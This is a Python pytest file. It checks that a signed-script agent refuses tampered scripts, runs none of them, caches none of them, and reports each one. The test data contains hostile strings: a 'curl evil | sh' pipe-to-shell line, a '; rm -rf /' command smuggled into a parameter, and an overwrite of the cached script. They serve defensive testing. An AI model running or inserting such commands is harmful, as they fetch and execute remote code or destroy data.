"""Every tamper case is refused on the node: nothing runs, nothing is cached, and the
refusal is logged, counted and reported as a security event.

Through the real agent wiring (`Agent.run_once`) with real Ed25519 keys and real
script execution; the server is the in-memory Agent API (see conftest).
"""

from __future__ import annotations

import asyncio
import base64
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from aami.agent.daemon import Agent
from aami.agent.state import StateStore
from aami.trust.keys import generate_private_key_pem
from aami.trust.signed_script import sign_script
from tests.agent.conftest import InMemoryServer, Publisher, make_config


def marker_script(tmp_path: Path) -> bytes:
    return f"touch {tmp_path / 'ran'}\necho ok\n".encode()


def _retype(item: dict[str, Any], value: str) -> None:
    item["script"]["envelope"]["payloadType"] = value


def _restate(item: dict[str, Any]) -> None:
    env = item["script"]["envelope"]
    statement = json.loads(base64.b64decode(env["payload"]))
    statement["timeout_seconds"] = 3000
    env["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()


def case(name: str, tmp_path: Path, pub: Publisher, server: InMemoryServer) -> str:
    """Set up one tamper case on the server; returns the expected reason code."""
    content = marker_script(tmp_path)
    if name == "content_changed":
        item = server.publish(pub.sign(content))
        server.scripts[item["script"]["sha256"]] = content + b"curl evil | sh\n"
        return "hash_mismatch"
    if name == "statement_changed":
        _restate(server.publish(pub.sign(content)))
        return "bad_signature"
    if name == "unknown_key":
        server.publish(sign_script(content, generate_private_key_pem(), name="check",
                                   version="1.0.0"))
        return "unknown_key"
    if name == "revoked_key":
        server.publish(pub.sign(content))
        (pub.keys_dir / "ops.pub").rename(pub.keys_dir / "ops.pub.revoked")
        return "revoked_key"
    if name == "expired":
        server.publish(pub.sign(content, expires_at=datetime.now(UTC) - timedelta(days=2)))
        return "expired"
    if name == "rollback":
        server.publish(pub.sign(content, version="1.0.0"))
        return "rollback"
    if name == "wrong_payload_type":
        _retype(server.publish(pub.sign(content)), "application/vnd.other+json")
        return "wrong_payload_type"
    if name == "malformed_envelope":
        server.publish(pub.sign(content))["script"]["envelope"]["payload"] = "%%%not-base64"
        return "malformed_envelope"
    if name == "params_invalid":
        schema = {"type": "object", "properties": {"n": {"type": "integer"}}}
        server.publish(pub.sign(content, params_schema=schema), params={"n": "; rm -rf /"})
        return "params_invalid"
    if name == "run_as_not_allowed":
        server.publish(pub.sign(content, run_as=["aami-runner"]), run_as="root")
        return "run_as_not_allowed"
    if name == "name_relabelled":
        server.publish(pub.sign(content, name="other"), name="check")
        return "name_mismatch"
    raise AssertionError(name)


CASES = ["content_changed", "statement_changed", "unknown_key", "revoked_key", "expired",
         "rollback", "wrong_payload_type", "malformed_envelope", "params_invalid",
         "run_as_not_allowed", "name_relabelled"]


@pytest.mark.parametrize("name", CASES)
def test_tampered_script_is_refused_and_reported(
    name: str, tmp_path: Path, publisher: Publisher, server: InMemoryServer
) -> None:
    config = make_config(tmp_path, publisher.keys_dir)
    if name == "rollback":
        store = StateStore(Path(config.state_dir))
        Path(config.state_dir).mkdir(parents=True)
        state = store.load()
        state.highest_versions["check"] = "2.0.0"
        store.save(state)
    reason = case(name, tmp_path, publisher, server)
    agent = Agent(config, client=server)
    assert asyncio.run(agent.run_once()) == 1
    assert not (tmp_path / "ran").exists(), "a refused script ran"
    assert server.executions == {}
    assert [e["reason"] for e in server.events.values()] == [reason]
    event = next(iter(server.events.values()))
    assert event["policy_id"] == 1 and event["script_name"] == "check"
    assert agent.metrics.refused == {reason: 1}
    assert f'aami_agent_scripts_refused_total{{reason="{reason}"}} 1' in agent.metrics_page()
    assert list((Path(config.state_dir) / "scripts").iterdir()) == []  # nothing cached
    assert agent.trusted.assignments() == []


def test_genuine_script_runs(tmp_path: Path, publisher: Publisher, server: InMemoryServer) -> None:
    server.publish(publisher.sign(marker_script(tmp_path)))
    agent = Agent(make_config(tmp_path, publisher.keys_dir), client=server)
    assert asyncio.run(agent.run_once()) == 0
    assert (tmp_path / "ran").exists()
    assert server.events == {} and len(server.executions) == 1


def test_key_revoked_after_the_poll_stops_the_next_run(
    tmp_path: Path, publisher: Publisher, server: InMemoryServer
) -> None:
    server.publish(publisher.sign(marker_script(tmp_path)), interval=1)
    config = make_config(tmp_path, publisher.keys_dir)
    agent = Agent(config, client=server)
    assert asyncio.run(agent.run_once()) == 0
    (tmp_path / "ran").unlink()
    (publisher.keys_dir / "ops.pub").rename(publisher.keys_dir / "ops.pub.revoked")
    agent.book.last_runs["1"] = 0  # due again
    decision = agent.due()[0]
    assert asyncio.run(agent.runner.run(decision)) is None
    assert not (tmp_path / "ran").exists()
    assert agent.metrics.refused == {"revoked_key": 1}
    assert agent.trusted.assignments() == []  # dropped until the server's answer changes


def test_cache_file_altered_on_disk_is_not_trusted(
    tmp_path: Path, publisher: Publisher, server: InMemoryServer
) -> None:
    item = server.publish(publisher.sign(marker_script(tmp_path)))
    config = make_config(tmp_path, publisher.keys_dir)
    agent = Agent(config, client=server)
    asyncio.run(agent.run_once())
    cached = Path(config.state_dir) / "scripts" / item["script"]["sha256"]
    cached.write_bytes(b"echo evil > " + str(tmp_path / "evil").encode())
    agent.book.last_runs["1"] = 0
    server.down = True  # cannot re-fetch either
    assert asyncio.run(agent.runner.run(agent.due()[0])) is None
    assert not (tmp_path / "evil").exists() and not cached.exists()


def test_key_replaced_in_place_is_reloaded(publisher: Publisher) -> None:
    """Same name, new content, no directory mtime change (and the old file mtime):
    the node must notice, or a revoked or rotated key would stay trusted."""
    import os

    from aami.agent.cache import TrustedKeys
    from aami.trust.keys import generate_private_key_pem, public_key_pem

    keys = TrustedKeys(publisher.keys_dir)
    before = set(keys.current())
    directory, path = publisher.keys_dir, publisher.keys_dir / "ops.pub"
    dir_st, file_st = directory.stat(), path.stat()
    path.write_bytes(public_key_pem(generate_private_key_pem()))  # same inode
    os.utime(path, ns=(file_st.st_atime_ns, file_st.st_mtime_ns))
    os.utime(directory, ns=(dir_st.st_atime_ns, dir_st.st_mtime_ns))
    middle = set(keys.current())
    assert middle and middle != before
    replacement = directory / "ops.pub.new"  # a new inode renamed over the old one
    replacement.write_bytes(public_key_pem(generate_private_key_pem()))
    os.replace(replacement, path)
    os.utime(directory, ns=(dir_st.st_atime_ns, dir_st.st_mtime_ns))
    assert set(keys.current()) not in (before, middle)
